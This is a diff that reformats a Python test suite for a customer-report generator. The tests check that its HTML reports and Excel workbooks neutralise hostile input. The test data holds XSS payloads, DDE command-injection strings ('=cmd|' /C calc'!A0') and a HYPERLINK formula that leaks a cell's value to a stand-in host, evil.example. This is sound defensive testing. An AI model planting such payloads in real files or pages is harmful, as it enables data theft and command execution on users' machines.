@@ -36,13 +36,30 @@ SCRIPT = "<script>alert(1)</script>"
 IMG = "<img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 LONG = "Region " + "L" * 293  # 300 characters
-HOSTILE_REGIONS = [SCRIPT, IMG, FORMULA, "North East", "north-east", "NORTH.EAST", "..",
-                   LONG, "🚀🌏", "CON"]
+HOSTILE_REGIONS = [
+    SCRIPT,
+    IMG,
+    FORMULA,
+    "North East",
+    "north-east",
+    "NORTH.EAST",
+    "..",
+    LONG,
+    "🚀🌏",
+    "CON",
+]
 DEGENERATE = ["Refunds only", "Zero amounts", "One customer", "One day"]
 CLIENT = f"AT&T {SCRIPT}"
-COMMENTS = [f"Terrible {SCRIPT} service", f"{IMG} broken", "=cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "+1 555 0100 call me", "-2+3+cmd|' /C calc'!A0",
-            "\tTabbed =1+1", "\rreturn =1+1"]
+COMMENTS = [
+    f"Terrible {SCRIPT} service",
+    f"{IMG} broken",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1 555 0100 call me",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tTabbed =1+1",
+    "\rreturn =1+1",
+]
 
 
 def plant_hostile(raw: Path) -> None:
@@ -72,8 +89,13 @@ def plant_hostile(raw: Path) -> None:
     amount[in_region == "Zero amounts"] = 0.0
     orders["Net Amount"] = amount.map(lambda v: f"{v:.2f}".replace(".", ","))
     orders.loc[in_region == "One day", "Order Date"] = "15/06/2025"
-    products = {"Laptop Bag": SCRIPT, "Wireless Mouse": IMG, "Toner Cartridge": FORMULA,
-                "Ink Cartridge Set": "AT&T Ink", "Laptop": "@Laptop"}
+    products = {
+        "Laptop Bag": SCRIPT,
+        "Wireless Mouse": IMG,
+        "Toner Cartridge": FORMULA,
+        "Ink Cartridge Set": "AT&T Ink",
+        "Laptop": "@Laptop",
+    }
     orders["Product"] = orders["Product"].replace(products)
     orders.to_csv(orders_path, index=False, sep=";")
 
@@ -112,9 +134,23 @@ def hostile_run(tmp_root: Path) -> tuple[Path, int, str]:
     plant_hostile(raw)
     audit = hostile_audit(raw, tmp_root / "hostile.yaml")
     proc = subprocess.run(
-        [sys.executable, "-m", "clientbook.run.cli", "run", str(audit), "--outputs", str(out),
-         "--jobs", "2", "--quiet"], capture_output=True, text=True,
-        env={**os.environ, "PYTHONPATH": str(REPO / "lib")}, timeout=1200)
+        [
+            sys.executable,
+            "-m",
+            "clientbook.run.cli",
+            "run",
+            str(audit),
+            "--outputs",
+            str(out),
+            "--jobs",
+            "2",
+            "--quiet",
+        ],
+        capture_output=True,
+        text=True,
+        env={**os.environ, "PYTHONPATH": str(REPO / "lib")},
+        timeout=1200,
+    )
     done.write_text(json.dumps({"code": proc.returncode, "stderr": proc.stderr}))
     return out / "hostile", proc.returncode, proc.stderr
 
@@ -147,8 +183,7 @@ class _Markup(HTMLParser):
         for name, value in attrs:
             if name.startswith("on"):
                 self.bad.append(f"<{tag} {name}={value}>")
-            if name in ("src", "href") and (value or "").strip().lower().startswith(
-                    "javascript:"):
+            if name in ("src", "href") and (value or "").strip().lower().startswith("javascript:"):
                 self.bad.append(f"<{tag} {name}={value}>")
         self._script = tag == "script"
 
@@ -162,8 +197,9 @@ class _Markup(HTMLParser):
 
 def test_no_unescaped_script_in_any_html(hostile):
     root, _, _ = hostile
-    pages = [p for p in sorted(root.rglob("*.html"))
-             if "assets" not in p.relative_to(root).parts]  # not the vendored reveal.js
+    pages = [
+        p for p in sorted(root.rglob("*.html")) if "assets" not in p.relative_to(root).parts
+    ]  # not the vendored reveal.js
     assert len(pages) >= 2 * 15  # report and slides of every slice, and the index
     for page in pages:
         body = page.read_text(encoding="utf-8")
@@ -190,8 +226,7 @@ def test_no_formula_cell_in_any_workbook(hostile):
         for ws in wb.worksheets:
             for row in ws.iter_rows():
                 for cell in row:
-                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate,
-                                                    cell.value)
+                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                     if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                         texts += 1
                         assert cell.quotePrefix, (path.name, cell.coordinate)
@@ -203,8 +238,7 @@ def test_every_region_has_its_own_folder(hostile):
     run = json.loads((root / "run.json").read_text(encoding="utf-8"))
     regions = [s for s in run["slices"] if s["kind"] == "region"]
     # "Unknown": the sample's orders from customers missing in customers.csv.
-    assert sorted(s["label"] for s in regions) == sorted(HOSTILE_REGIONS + DEGENERATE
-                                                         + ["Unknown"])
+    assert sorted(s["label"] for s in regions) == sorted(HOSTILE_REGIONS + DEGENERATE + ["Unknown"])
     ids = [s["id"] for s in regions]
     assert len(set(ids)) == len(ids)
     for sid in ids:
@@ -249,8 +283,11 @@ def test_colliding_names_get_distinct_stable_ids():
     # A name keeps its id when others are added or the order changes.
     again = unique_slugs(list(reversed(names)) + ["North-East!"])
     assert all(again[n] == slugs[n] for n in names)
-    manifest = {"slicing": ["region"], "periods": [],
-                "regions": [{"name": n, "slug": "ignored", "customers": 1} for n in names]}
+    manifest = {
+        "slicing": ["region"],
+        "periods": [],
+        "regions": [{"name": n, "slug": "ignored", "customers": 1} for n in names],
+    }
     got = slices(manifest)
     assert [s.label for s in got[1:]] == names
     assert len({s.id for s in got}) == len(names) + 1
@@ -276,14 +313,14 @@ def _killer_audit(small_audit: Path, tmp_path: Path) -> Path:
     nb = nbformat.read(REPO / "playbooks" / "00_data_audit.ipynb", as_version=4)
     nb.cells = [nb.cells[1], nbformat.v4.new_code_cell(KILLER)]
     nbformat.write(nb, pb / "01_killer.ipynb")
-    text = small_audit.read_text().replace("steps: [data_audit, classification]",
-                                           f"playbooks_dir: {pb}")
+    text = small_audit.read_text().replace(
+        "steps: [data_audit, classification]", f"playbooks_dir: {pb}"
+    )
     small_audit.write_text(text)
     return small_audit
 
 
-def test_a_killed_kernel_fails_its_slice_and_the_run(small_audit, tmp_path, capsys,
-                                                     monkeypatch):
+def test_a_killed_kernel_fails_its_slice_and_the_run(small_audit, tmp_path, capsys, monkeypatch):
     import tempfile
 
     audit = _killer_audit(small_audit, tmp_path)
@@ -297,8 +334,12 @@ def test_a_killed_kernel_fails_its_slice_and_the_run(small_audit, tmp_path, caps
     run = json.loads((out / "small" / "run.json").read_text())
     assert [(f["slice_id"], f["step"]) for f in run["failures"]] == [("region-north", "killer")]
     assert "died" in run["failures"][0]["error"].lower()
-    assert {s["id"] for s in run["slices"]} == {"all", "region-east", "region-north",
-                                                "period-2025-Q1"}
+    assert {s["id"] for s in run["slices"]} == {
+        "all",
+        "region-east",
+        "region-north",
+        "period-2025-Q1",
+    }
     for sid in ("all", "region-east", "period-2025-Q1"):
         res = json.loads((out / "small" / "slices" / sid / "results.json").read_text())
         assert "data_audit" in res
@@ -320,11 +361,17 @@ def test_a_folder_the_system_refuses_fails_only_its_slice(small_audit, tmp_path,
     out = tmp_path / "outputs"
     summary = runner.run(audit_mod.load(small_audit), out, jobs=1, show_progress=False)
     assert {(f.slice_id, f.step) for f in summary.failures} == {
-        ("region-east", "data_audit"), ("region-east", "classification")}
+        ("region-east", "data_audit"),
+        ("region-east", "classification"),
+    }
     assert "File name too long" in summary.failures[0].error
     run = json.loads((out / "small" / "run.json").read_text())
-    assert {s["id"] for s in run["slices"]} == {"all", "region-east", "region-north",
-                                                "period-2025-Q1"}
+    assert {s["id"] for s in run["slices"]} == {
+        "all",
+        "region-east",
+        "region-north",
+        "period-2025-Q1",
+    }
     east = next(s for s in run["slices"] if s["id"] == "region-east")
     assert east["failed_steps"] == ["data_audit", "classification"]
     # jobs=1: the one worker went on with the slices after the broken one.
@@ -334,8 +381,9 @@ def test_a_folder_the_system_refuses_fails_only_its_slice(small_audit, tmp_path,
     assert 'class="failed" data-slice="region-east"' in index
 
 
-def test_a_crashed_worker_never_yields_a_silent_partial_run(small_audit, tmp_path,
-                                                            monkeypatch, capsys):
+def test_a_crashed_worker_never_yields_a_silent_partial_run(
+    small_audit, tmp_path, monkeypatch, capsys
+):
     def crash(*args, **kwargs):
         raise OSError(errno.ENAMETOOLONG, "File name too long")
 
@@ -434,8 +482,17 @@ def test_previous_outputs_that_cannot_be_moved(small_audit, tmp_path, monkeypatc
 def test_formula_like_text_is_written_as_text(tmp_path):
     from clientbook.deliver.xlsx import write_action_lists
 
-    texts = [FORMULA, "=cmd|' /C calc'!A0", "+1 555", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
-             "plain", "a=b"]
+    texts = [
+        FORMULA,
+        "=cmd|' /C calc'!A0",
+        "+1 555",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "plain",
+        "a=b",
+    ]
     df = pd.DataFrame({"=Name": texts, "amount": [-5.5, -1, 0, 2, 3, 4, 5, 6, 7]})
     path = write_action_lists(tmp_path / "actions.xlsx", {"Win-back": df})
     write_action_lists(path, {"Other": df.head(2)})  # reopened, the first sheet is kept as is
@@ -446,8 +503,8 @@ def test_formula_like_text_is_written_as_text(tmp_path):
     for ws in (wb["Win-back"], wb["Other"]):  # the lists (the summary sheet comes first)
         header, *rows = list(ws.iter_rows(values_only=True))
         assert header == ("=Name", "amount")
-        assert [r[0] for r in rows] == texts[:len(rows)]  # the text itself, no quote added
-        assert [r[1] for r in rows] == df["amount"].tolist()[:len(rows)]
+        assert [r[0] for r in rows] == texts[: len(rows)]  # the text itself, no quote added
+        assert [r[1] for r in rows] == df["amount"].tolist()[: len(rows)]
         assert all(c.data_type == "n" for c in ws["B"][1:])  # negative numbers stay numbers
         assert ws["A1"].quotePrefix and ws["A2"].quotePrefix and not ws["A9"].quotePrefix
 
@@ -468,7 +525,9 @@ def test_nothing_in_a_report_runs_while_it_prints(tmp_path):
         "<script>document.write('SCRIPT RAN')</script>"
         "<img src=x onerror=\"document.body.append('HANDLER RAN')\">"
         "<iframe srcdoc=\"<script>parent.document.body.append('FRAME RAN')</script>\"></iframe>"
-        "</body></html>", encoding="utf-8")
+        "</body></html>",
+        encoding="utf-8",
+    )
     out = tmp_path / "report.pdf"
     assert pdf.print_pdf(html, out) is None
     text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True).stdout
@@ -478,8 +537,19 @@ def test_nothing_in_a_report_runs_while_it_prints(tmp_path):
 
 # ---- narrative ---------------------------------------------------------------------------
 
-NASTY = [SCRIPT, IMG, FORMULA, "AT&T", "[x](javascript:alert(1))", "![i](x)", "*a* _b_ `c`",
-         "a\\b $1 and $2", "<http://evil.example>", "see http://evil.example/x", "&amp; &lt;"]
+NASTY = [
+    SCRIPT,
+    IMG,
+    FORMULA,
+    "AT&T",
+    "[x](javascript:alert(1))",
+    "![i](x)",
+    "*a* _b_ `c`",
+    "a\\b $1 and $2",
+    "<http://evil.example>",
+    "see http://evil.example/x",
+    "&amp; &lt;",
+]
 
 
 def _rendered(markdown: str) -> str:
@@ -540,8 +610,9 @@ def test_a_chart_prints_dollar_signs_in_labels_as_they_are(monkeypatch):
     from clientbook.present import playbook
 
     shown = []
-    monkeypatch.setattr(playbook, "_display", lambda data, metadata=None: shown.append(
-        (data, metadata)))
+    monkeypatch.setattr(
+        playbook, "_display", lambda data, metadata=None: shown.append((data, metadata))
+    )
     fig, ax = plt.subplots()
     name = r"$\notacommand{x}$ Bag"  # TeX math would fail on this product name
     ax.bar([name, "$5 and $6"], [1, 2])
@@ -568,8 +639,12 @@ def test_a_full_disk_seen_by_a_worker_ends_the_run():
     sl = slices({"slicing": [], "regions": [], "periods": []})[0]
     ok = runner.SliceOutcome({"id": "all"}, [runner.NotebookRun("all", "x", "x", 0, True)], [])
     runner._check_disk([ok])  # nothing to say
-    full = runner.failed_slice(sl, [Path("00_data_audit.ipynb")], Path("."),
-                               OSError(errno.ENOSPC, "No space left on device"))
+    full = runner.failed_slice(
+        sl,
+        [Path("00_data_audit.ipynb")],
+        Path("."),
+        OSError(errno.ENOSPC, "No space left on device"),
+    )
     with pytest.raises(OSError) as e:
         runner._check_disk([ok, full])
     assert e.value.errno == errno.ENOSPC
@@ -578,16 +653,21 @@ def test_a_full_disk_seen_by_a_worker_ends_the_run():
 # ---- degenerate books --------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("amounts", [[-10.5, 0.0, -5.0], [0.0, 0.0, 0.0]],
-                         ids=["refunds", "zero"])
+@pytest.mark.parametrize("amounts", [[-10.5, 0.0, -5.0], [0.0, 0.0, 0.0]], ids=["refunds", "zero"])
 def test_a_book_without_net_purchases_says_too_little_data(tmp_path, amounts):
     export = tmp_path / "export"
     export.mkdir()
-    pd.DataFrame({"order_id": ["O1", "O2", "O3"], "customer_id": ["C1", "C2", "C1"],
-                  "date": ["2025-03-05", "2025-03-05", "2025-03-05"],  # one day of data
-                  "amount": amounts}).to_csv(export / "orders.csv", index=False)
+    pd.DataFrame(
+        {
+            "order_id": ["O1", "O2", "O3"],
+            "customer_id": ["C1", "C2", "C1"],
+            "date": ["2025-03-05", "2025-03-05", "2025-03-05"],  # one day of data
+            "amount": amounts,
+        }
+    ).to_csv(export / "orders.csv", index=False)
     pd.DataFrame({"customer_id": ["C1", "C2"], "region": ["East", "West"]}).to_csv(
-        export / "customers.csv", index=False)
+        export / "customers.csv", index=False
+    )
     from conftest import write_audit
 
     audit = write_audit(tmp_path / "tiny.yaml", export, "steps: [data_audit, classification]")
@@ -598,8 +678,14 @@ def test_a_book_without_net_purchases_says_too_little_data(tmp_path, amounts):
         report = (out / "small" / "slices" / s["id"] / "report.html").read_text()
         assert "Too little data" in report and "no customer has net purchases" in report
         assert "An Exception was encountered" not in report
-        executed = nbformat.read(out / "small" / "slices" / s["id"] / "notebooks"
-                                 / "01_classification.ipynb", as_version=4)
-        errors = [o for c in executed.cells for o in c.get("outputs", [])
-                  if o.get("output_type") == "error"]
+        executed = nbformat.read(
+            out / "small" / "slices" / s["id"] / "notebooks" / "01_classification.ipynb",
+            as_version=4,
+        )
+        errors = [
+            o
+            for c in executed.cells
+            for o in c.get("outputs", [])
+            if o.get("output_type") == "error"
+        ]
         assert [e["ename"] for e in errors] == ["TooLittleData"]
